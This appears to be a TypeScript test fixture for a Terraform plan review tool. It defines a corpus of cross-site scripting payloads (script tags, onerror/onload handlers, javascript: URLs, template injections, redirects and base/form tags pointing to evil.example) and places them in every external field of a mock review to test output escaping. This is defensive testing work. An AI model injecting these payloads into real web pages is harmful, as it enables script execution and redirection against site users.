import type { ReviewSource } from '../../../terrace/review/model/build';

import { bundleOf } from './bundle-of';
import { planOf } from './plan-of';

/** Texts that run as code where they are not escaped; each would call `alert`. */
export const xssCorpus: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  `'"><img src=x onerror=alert(1)>`,
  '<svg/onload=alert(1)>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '</script><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)></form>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u202Ealert(1)\u202C<b>',
  ']]><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

/** A review in which every name and value that comes from outside is one of the corpus. */
export const xssSource: ReviewSource = {
  bundle: bundleOf({ commit: '<script>alert(1)</script>', terraform: '<img src=x onerror=alert(1)>' }),
  units: [
    {
      path: 'shop/dev/eu-central-1/network/<svg onload=alert(1)>',
      plan: planOf({
        changes: xssCorpus.flatMap((text, index) => [
          {
            address: `aws_s3_bucket.one["${text}"]`,
            after: { bucket: text, [text]: text, document: JSON.stringify({ [text]: [text] }), lines: `${text}\n${text}` },
          },
          {
            address: `aws_iam_role.two_${index}`,
            before: { name: text, tags: { [text]: 'a' } },
            after: { name: `${text}2`, tags: { [text]: text } },
            replace: ['name'],
            reason: text,
            movedFrom: `aws_iam_role.${text}`,
            imports: text,
            provisioners: [text],
            refers: { name: [text] },
          },
          {
            address: `aws_security_group.three_${index}`,
            after: { name: text, ingress: [{ cidr_blocks: ['0.0.0.0/0'], protocol: text, from_port: text, to_port: text }] },
          },
        ]),
        drift: xssCorpus.map((text, index) => ({
          address: `aws_s3_bucket.four_${index}["${text}"]`,
          before: { bucket: 'a' },
          after: { bucket: text },
        })),
        outputs: Object.fromEntries(xssCorpus.map((text) => [text, { before: 'a', after: text }])),
      }),
      mocks: [{ unit: xssCorpus[0] ?? '', output: xssCorpus[1] ?? '', reference: 'local.x' }],
    },
  ],
  absent: [{ path: 'shop/dev/eu-central-1/data/later', status: 'failed', reason: '<img src=x onerror=alert(1)>', after: [] }],
  source: {
    files: ['policies/<script>alert(1)</script>.ts'],
    lockedVersions: [{ lockFile: '<b>', provider: '<script>alert(1)</script>', before: '1', after: '2' }],
  },
};
